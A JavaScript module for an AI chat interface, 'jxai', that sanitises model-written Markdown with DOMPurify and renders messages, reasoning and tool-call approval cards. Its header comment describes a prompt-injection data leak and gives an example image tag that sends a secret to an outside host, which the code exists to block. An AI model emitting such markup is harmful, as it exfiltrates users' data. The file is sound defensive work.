// jxai chat page: turning messages into DOM (docs/architecture.md "The chat page";
// docs/security.md, threat 6 "XSS").
//
// Model text is Markdown rendered by marked and then sanitised by DOMPurify before it
// touches the document; it never reaches innerHTML raw. Everything else (user text,
// reasoning, tool arguments and results) is set as textContent. The sanitiser runs in a
// DOMPurify instance of our own with hooks that:
//   - drop <img> whose src is not this origin (or a data: image): a prompt injection leaks
//     data through <img src="https://elsewhere/?q=secret">, and sanitisers keep img;
//   - give links target="_blank" rel="noopener noreferrer";
//   - keep `class` only on <code class="language-…"> (model text must not dress up as UI).
// The page's CSP (img-src 'self' data:, script-src 'self') is the second line of defence.

/* global marked, DOMPurify */

import { messageActions } from "./actions.js";
import { enhanceCode, rememberSource } from "./code.js";
import { showFeedback } from "./feedback.js";

const purifier = DOMPurify(window);

const SANITISE_CONFIG = Object.freeze({
  USE_PROFILES: { html: true },           // no SVG or MathML
  ALLOW_DATA_ATTR: false,                 // model text cannot forge data-testid hooks
  SANITIZE_NAMED_PROPS: true,             // ids/names prefixed: no DOM clobbering
  FORBID_TAGS: [
    "style", "form", "input", "button", "textarea", "select", "option", "iframe", "frame",
    "frameset", "object", "embed", "video", "audio", "source", "track", "picture", "link",
    "meta", "base", "template", "dialog",
  ],
  FORBID_ATTR: ["style", "srcset", "ping", "action", "formaction", "background", "poster", "target"],
  RETURN_DOM_FRAGMENT: true,
});

const DATA_IMAGE = /^data:image\/(?:png|gif|jpe?g|webp|avif);/i;

/** True when an image source may load: same origin, or an inline raster data: URL. */
export function isAllowedImageSource(value) {
  if (typeof value !== "string" || value.trim() === "") return false;
  if (DATA_IMAGE.test(value.trim())) return true;
  try {
    const url = new URL(value, window.location.href);
    return (url.protocol === "http:" || url.protocol === "https:") && url.origin === window.location.origin;
  } catch {
    return false;
  }
}

// Notes the hooks put in place of dropped images; DOMPurify visits them next, and their
// class must survive the class rule below.
const ourNotes = new WeakSet();

purifier.addHook("uponSanitizeAttribute", (node, data) => {
  if (data.attrName === "class" && !ourNotes.has(node)) {
    const keep = node.nodeName === "CODE" && /^language-[\w+#.-]{1,40}$/.test(data.attrValue);
    if (!keep) data.keepAttr = false;
  }
});

purifier.addHook("afterSanitizeAttributes", (node) => {
  if (node.nodeName === "IMG") {
    if (!isAllowedImageSource(node.getAttribute("src"))) {
      const note = node.ownerDocument.createElement("span");
      note.className = "blocked-image";
      note.textContent = "[image not loaded: external images are blocked]";
      ourNotes.add(note);
      node.replaceWith(note);
    }
    return;
  }
  if (node.nodeName === "A" && node.hasAttribute("href")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

/**
 * Render model Markdown into `target`, replacing what it held; code blocks are then
 * highlighted and get a Copy button (code.js), on the sanitised DOM.
 * @param {Element} target
 * @param {string} text Markdown from the model (untrusted).
 */
export function renderMarkdown(target, text) {
  const html = marked.parse(text || "", { gfm: true, breaks: false, async: false });
  target.replaceChildren(purifier.sanitize(html, SANITISE_CONFIG));
  rememberSource(target, text);
  enhanceCode(target);
}

/** A new element with a class list, optional text and optional data-testid. */
export function el(tag, className, text, testid) {
  const node = document.createElement(tag);
  if (className) node.className = className;
  if (text !== undefined && text !== null) node.textContent = text;
  if (testid) node.dataset.testid = testid;
  return node;
}

/** Pretty JSON text for arguments or results; the raw text when it does not parse. */
export function prettyJson(value) {
  if (typeof value === "string") {
    try {
      return JSON.stringify(JSON.parse(value), null, 2);
    } catch {
      return value;
    }
  }
  try {
    return JSON.stringify(value, null, 2);
  } catch {
    return String(value);
  }
}

/** A user message: plain text, never Markdown. */
export function userMessage(message) {
  const node = el("article", "message user", null, "message-user");
  if (message.id != null) node.dataset.messageId = String(message.id);
  node.append(el("h2", "visually-hidden", "You said:"), el("div", "message-body", message.content || ""),
    messageActions("user"));
  return node;
}

/**
 * An assistant message shell; fill it with `fillAssistant` or stream into it.
 * Parts: reasoning (folded <details>), the Markdown body, tool call cards, a note line.
 */
export function assistantMessage(id) {
  const node = el("article", "message assistant", null, "message-assistant");
  if (id != null) node.dataset.messageId = String(id);
  const reasoning = el("details", "reasoning", null, "reasoning");
  reasoning.hidden = true;
  reasoning.append(el("summary", "", "Reasoning"), el("div", "reasoning-text"));
  node.append(
    el("h2", "visually-hidden", "jxai said:"),
    reasoning,
    el("div", "message-body markdown"),
    el("div", "tool-calls"),
    el("p", "message-note"),
    messageActions("assistant"),
  );
  node.querySelector(".message-note").hidden = true;
  return node;
}

/** Parts of an assistant element: {reasoning, reasoningText, body, calls, note}. */
export function partsOf(node) {
  return {
    reasoning: node.querySelector(":scope > .reasoning"),
    reasoningText: node.querySelector(":scope > .reasoning > .reasoning-text"),
    body: node.querySelector(":scope > .message-body"),
    calls: node.querySelector(":scope > .tool-calls"),
    note: node.querySelector(":scope > .message-note"),
  };
}

/** Show a note under an assistant message (stopped, cut off, failed …). */
export function setNote(node, text, kind) {
  const { note } = partsOf(node);
  note.textContent = text || "";
  note.hidden = !text;
  note.dataset.kind = kind || "";
}

/** Set the reasoning text; the fold stays closed unless the reader opened it. */
export function setReasoning(node, text, streaming) {
  const { reasoning, reasoningText } = partsOf(node);
  reasoning.hidden = !text;
  reasoningText.textContent = text || "";
  reasoning.querySelector("summary").textContent = streaming ? "Thinking…" : "Reasoning";
}

const CARD_STATES = {
  streaming: "writing arguments…",
  pending: "waiting to run",
  running: "running…",
  success: "succeeded",
  failure: "failed",
  approval: "waiting for your approval",
  approved: "approved, running…",
  denied: "denied",
  expired: "expired: not approved in time",
};

/** A tool call card: name, arguments, result, state. */
export function toolCard(callId, name) {
  const card = el("section", "tool-call", null, "tool-call");
  card.dataset.callId = callId;
  const head = el("header", "tool-head");
  head.append(el("span", "tool-label", "Tool"), el("code", "tool-name", name || "(unnamed)"),
    el("span", "tool-status", "", "tool-status"));
  const args = el("details", "tool-args");
  args.append(el("summary", "", "Arguments"), el("pre", "tool-args-text"));
  const result = el("details", "tool-result");
  result.append(el("summary", "", "Result"), el("pre", "tool-result-text", null, "tool-result"));
  result.hidden = true;
  card.append(head, args, result);
  card.setAttribute("aria-label", `Tool call ${name || ""}`.trim());
  setCardState(card, "streaming");
  return card;
}

/** Move a card to a state of CARD_STATES (data-state drives the styling). */
export function setCardState(card, state) {
  card.dataset.state = state;
  card.querySelector(".tool-status").textContent = CARD_STATES[state] || state;
}

export function setCardName(card, name) {
  card.querySelector(".tool-name").textContent = name || "(unnamed)";
  card.setAttribute("aria-label", `Tool call ${name || ""}`.trim());
}

export function setCardArguments(card, text, final) {
  card.dataset.args = text;
  card.querySelector(".tool-args-text").textContent = final ? prettyJson(text) : text;
}

/**
 * Show a call's result: `result` is the tool's {success, data|error, summary?} object.
 * @param {boolean|null} success
 */
export function setCardResult(card, result, success) {
  const box = card.querySelector(".tool-result");
  box.hidden = false;
  let shown = result;
  if (result && typeof result === "object") {
    if (success === false && typeof result.error === "string") shown = result.error;
    else if ("data" in result) shown = result.data;
  }
  card.querySelector(".tool-result-text").textContent =
    typeof shown === "string" ? shown : prettyJson(shown);
  if (result && typeof result === "object" && typeof result.summary === "string" && result.summary) {
    box.querySelector("summary").textContent = `Result: ${result.summary}`;
  }
  // A call the user denied (or let expire) failed because of that: the card says which.
  const refused = ["denied", "expired"].includes(card.dataset.approval) ? card.dataset.approval : "failure";
  setCardState(card, success === false ? refused : "success");
}

/**
 * A call that waits for the user's approval (docs/approval.md): the card shows its arguments
 * unfolded, an optional reason and the Approve / Deny buttons, which call
 * `onDecide(callId, approved, reason)`. Any other `approval` (decided, or none) removes the box:
 * the card is an ordinary tool card again; a decision shows who decided until the result comes.
 * @param {{state: string, decidedBy: ?string, reason: string}|null} approval
 */
export function setCardApproval(card, approval, onDecide) {
  if (approval) card.dataset.approval = approval.state; // kept when a result clears the box (`null`)
  let box = card.querySelector(":scope > .tool-approval");
  const waiting = approval && approval.state === "awaiting_approval";
  if (!waiting) {
    if (box) box.remove();
    if (approval && approval.state === "approved" && card.dataset.state === "approval") setCardState(card, "approved");
    return;
  }
  card.querySelector(".tool-args").open = true;
  if (card.dataset.state !== "approval") setCardState(card, "approval");
  if (box) return;
  box = el("form", "tool-approval", null, "approval-card");
  const reason = el("input", "tool-approval-reason", null, "approval-reason");
  reason.type = "text";
  reason.placeholder = "Reason (optional, sent with a denial)";
  reason.setAttribute("aria-label", "Reason for your decision");
  const approve = el("button", "button primary", "Approve", "approve");
  approve.type = "submit";
  const deny = el("button", "button danger", "Deny", "deny");
  deny.type = "button";
  const decide = (approved) => {
    approve.disabled = deny.disabled = true;
    onDecide(card.dataset.callId, approved, reason.value.trim());
  };
  box.addEventListener("submit", (event) => {
    event.preventDefault();
    decide(true);
  });
  deny.addEventListener("click", () => decide(false));
  box.append(el("p", "tool-approval-text", "This tool needs your approval before it runs."), reason, approve, deny);
  card.append(box);
}

/** Enable a card's Approve / Deny again (the decision was refused, e.g. not connected). */
export function reopenCardApproval(card) {
  for (const button of card.querySelectorAll(":scope > .tool-approval button")) button.disabled = false;
}

/** Fill an assistant element from a saved `message` object (ws-protocol.md); `onDecide` answers approval cards. */
export function fillAssistant(node, message, onDecide) {
  const { body, calls } = partsOf(node);
  setReasoning(node, message.reasoning || "", false);
  renderMarkdown(body, message.content || "");
  body.hidden = !message.content;
  for (const call of message.toolCalls || []) {
    let card = calls.querySelector(`:scope > [data-call-id="${CSS.escape(call.id)}"]`);
    if (!card) {
      card = toolCard(call.id, call.name);
      calls.append(card);
    }
    setCardName(card, call.name);
    setCardArguments(card, call.arguments || "", true);
    setCardApproval(card, call.approval, onDecide);
    if (call.result !== null && call.result !== undefined) setCardResult(card, call.result, call.success);
    else if (card.dataset.state === "streaming") setCardState(card, "pending");
  }
  showFeedback(node, message.feedback || null);
  const reasons = { length: "The answer was cut off (length limit).", content_filter: "The provider filtered this answer." };
  if (reasons[message.stopReason]) setNote(node, reasons[message.stopReason], "warning");
}
